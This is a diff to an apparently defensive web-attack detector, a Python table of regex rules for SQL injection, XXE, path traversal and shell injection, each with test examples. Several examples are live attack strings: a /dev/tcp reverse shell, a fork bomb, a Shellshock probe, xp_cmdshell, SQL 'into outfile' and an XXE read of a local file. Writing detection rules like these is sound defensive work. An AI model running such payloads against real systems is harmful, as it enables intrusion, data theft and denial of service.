@@ -18,7 +18,7 @@ SSRF = "webattack.ssrf"
 
 FAMILY_MESSAGES = {
     SQLI: "SQL injection syntax",
-    XSS: "script injection into HTML (XSS)",
+    XSS: "script or external-entity injection into HTML or XML (XSS, XXE)",
     TRAVERSAL: "path traversal or a sensitive file path",
     CMDI: "shell command injection",
     SSRF: "URL pointing at an internal or metadata address (SSRF)",
@@ -28,6 +28,7 @@ _S = Severity.HIGH  # rules carry a severity for the table's sake; the detector 
 # Commands that are also everyday English words; after a separator they need more context.
 _ENGLISH = (
     "time more less type find set make head host top mail service source alias fetch tee halt id"
+    " exec eval"
 )
 _UNIX = (
     r"(?:cat|tac|nl|head|tail|more|less|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat"
@@ -89,14 +90,21 @@ RULES: tuple[Rule, ...] = (
         id="sqli.stacked",
         code=SQLI,
         pattern=(
-            r"(?i);\s*(?:drop|delete|insert|update|alter|create|truncate|exec|execute|shutdown"
+            r"(?i);\s*(?:(?:drop|delete|insert|update|alter|create|truncate|shutdown"
             r"|declare|select|grant|revoke|rename|set\s+@)\b"
+            r"|exec(?:ute)?\s*(?:\(|@|'|xp_|sp_|master\b|immediate\b))"
+            r"|(?i)\bexec(?:ute)?\s+(?:xp_|sp_|master\.)\w+|\bexecute\s+(?:immediate|as\s+login)\b"
         ),
         severity=_S,
         score=0.8,
         message="stacked SQL statement",
-        examples=("1; DROP TABLE users", "x;shutdown--"),
-        counterexamples=("milk; bread; eggs", "see you; call me later"),
+        examples=(
+            "1; DROP TABLE users",
+            "x;shutdown--",
+            "1;exec xp_cmdshell 'dir'",
+            " EXEC sp_who",
+        ),
+        counterexamples=("milk; bread; eggs", "see you; call me later", "1; exec will do"),
     ),
     Rule(
         id="sqli.functions",
@@ -118,6 +126,45 @@ RULES: tuple[Rule, ...] = (
         message="SQL function or system variable",
         examples=("sleep(5)", "@@version", "extractvalue(1,concat(0x7e,user()))", "WAITFOR DELAY"),
         counterexamples=("Let me sleep on it", "the version is 2.1"),
+    ),
+    Rule(
+        id="sqli.database_function",
+        code=SQLI,
+        pattern=(
+            r"(?i)\b(?:pg_sleep|benchmark|extractvalue|updatexml|load_file|group_concat|sysdate"
+            r"|db_name|database|schema_name|user_name|current_database|pg_read_file|utl_inaddr"
+            r"|utl_http|dbms_\w+|xp_cmdshell|find_in_set|make_set|name_const|randomblob"
+            r"|sqlite_version|is_srvrolemember|has_dbaccess|quotename|char_length)\("
+        ),
+        severity=_S,
+        score=0.5,
+        message="a function only databases have",
+        examples=("DATABASE(", "pg_sleep(5)", "1 and extractvalue(1,0x7e)", "BENChmARk("),
+        counterexamples=("the database (v2) is down", "a benchmark (2024) of sorts"),
+    ),
+    Rule(
+        id="sqli.postgres_json",
+        code=SQLI,
+        pattern=(
+            r"(?i)(?:['\")]|\b\w+)\s*::\s*(?:jsonb?|text|int[248]?|integer|bool(?:ean)?|varchar"
+            r"|numeric|double\s+precision|regclass|bytea|oid|xml|inet)\b"
+            r"|['\")]\s*(?:<@|@>|->>?|#>>?|\?\||\?&|@\?|@@)\s*['\"(]"
+        ),
+        severity=_S,
+        score=0.5,
+        message="a PostgreSQL cast or JSON operator on a literal",
+        examples=("'[1, 2]'::jsonb || '3'", "lo_get(16400)::text", "'{\"b\":2}' <@ '{\"a\":1}'"),
+        counterexamples=("std::string name", "see ::before in CSS", "a -> b"),
+    ),
+    Rule(
+        id="sqli.file_access",
+        code=SQLI,
+        pattern=r"(?i)\binto\s+(?:out|dump)file\b|\bload\s+(?:data|xml)\s+(?:local\s+)?infile\b",
+        severity=_S,
+        score=0.8,
+        message="SQL that writes or reads a server file",
+        examples=("1 into outfile 'asd'", "1;load xml local infile 'foo'"),
+        counterexamples=("log into outlook", "load the data file"),
     ),
     Rule(
         id="sqli.comment",
@@ -296,6 +343,23 @@ RULES: tuple[Rule, ...] = (
         ),
         counterexamples=("the document is ready", "/manual/document.cookie", "{{ name }}"),
     ),
+    Rule(
+        id="xss.xml_external",
+        code=XSS,
+        pattern=(
+            r"(?i)!ENTITY\s+(?:%\s*)?[\w.:-]+\s+(?:SYSTEM|PUBLIC)\b|<\s*xi:include\b"
+            r"|(?i)<!ATTLIST\b[^>]*\bon[a-z]+\s+CDATA"
+        ),
+        severity=_S,
+        score=0.8,
+        message="XML external entity or XInclude (XXE)",
+        examples=(
+            '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]>',
+            "foo!ENTITY % bar SYSTEM",
+            '<xi:include href="http://x.example/"/>',
+        ),
+        counterexamples=("an entity system for games", "<!DOCTYPE html>"),
+    ),
     # --- path traversal ----------------------------------------------------------------------
     Rule(
         id="traversal.dot_dot",
@@ -314,7 +378,7 @@ RULES: tuple[Rule, ...] = (
         id="traversal.climb",
         code=TRAVERSAL,
         pattern=(
-            r"\.\.[\\/;]\.\.[\\/;]|(?:^|[=\s\"'(,:])\.\.\.?[\\/;]|\.\.(?:%00|\x00)"
+            r"\.\.[\\/;]\.\.[\\/;]|(?:^|[=\s\"'(,:])\.\.\.?[\\/;](?:[\w.%~]|$)|\.\.(?:%00|\x00)"
             r"|(?i)(?:%2e|%252e|%c0%ae|%e0%80%ae|%c0%2e|%u002e|%uff0e|0x2e){2}"
             r"|(?i)\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%c1%1c|%e0%80%af|%u2215|%u2216|0x5c|0x2f)"
             r"|(?i)0x5c0x2e|(?i)\\\.\.|\.\.;"
@@ -323,7 +387,7 @@ RULES: tuple[Rule, ...] = (
         score=0.75,
         message="climbing out of the directory: repeated, leading or encoded parent steps",
         examples=("../../etc/passwd", "..%252f..%252f", "%c0%ae%c0%ae/", "file=../x", "..;/"),
-        counterexamples=("see docs/../README for details", "wait... what?"),
+        counterexamples=("see docs/../README for details", "wait... what?", '<a href="../">up</a>'),
     ),
     Rule(
         id="traversal.sensitive_file",
@@ -358,7 +422,7 @@ RULES: tuple[Rule, ...] = (
         code=CMDI,
         pattern=(
             rf"(?:[;&|`\n]|\$\(|\|\||&&)\s*[{{(]?\s*(?:/(?:usr/)?s?bin/)?(?:{_PLAIN}(?:[\s;&|`<>$]|$)|{_WORDY})"
-            r"|\$\(\s*[a-z]|`\s*[a-z/][^`]*`"
+            rf"|\$\(\s*[a-z]|`\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
         ),
         severity=_S,
         score=0.85,
@@ -376,12 +440,19 @@ RULES: tuple[Rule, ...] = (
             r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+[+0-7]|wget\s+https?://|curl\s+"
             r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
             r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
+            r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
         ),
         severity=_S,
         score=0.7,
         message="shell metacharacter syntax",
-        examples=("cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "bash -i >& /dev/tcp/1.2.3.4/8080"),
-        counterexamples=("costs $5 {approx}", "what? really"),
+        examples=(
+            "cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            "bash -i >& /dev/tcp/1.2.3.4/8080",
+            ":(){ :|:& };:",
+            "() { :; }; echo x",
+        ),
+        counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }"),
     ),
     Rule(
         id="cmdi.windows_batch",
@@ -389,13 +460,19 @@ RULES: tuple[Rule, ...] = (
         pattern=(
             r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
             r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+)*"
-            r"(?:\S+\s+)?%%?[~\w@]+\s+in\s*\(|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
+            r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
             r"\b|%comspec%|start\s+/b\b)"
         ),
         severity=_S,
         score=0.8,
         message="Windows batch control flow",
-        examples=('IF EXIST "temp.txt" ECHO found', "& FOR %@ IN (a,b,c) DO cmd", "IF 2 GEQ 15 x"),
+        examples=(
+            'IF EXIST "temp.txt" ECHO found',
+            "& FOR %@ IN (a,b,c) DO cmd",
+            "IF 2 GEQ 15 x",
+            'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
+            "& FOR %/ IN (a,b,c) DO cmd",
+        ),
         counterexamples=("if you exist, reply", "for the win"),
     ),
     Rule(
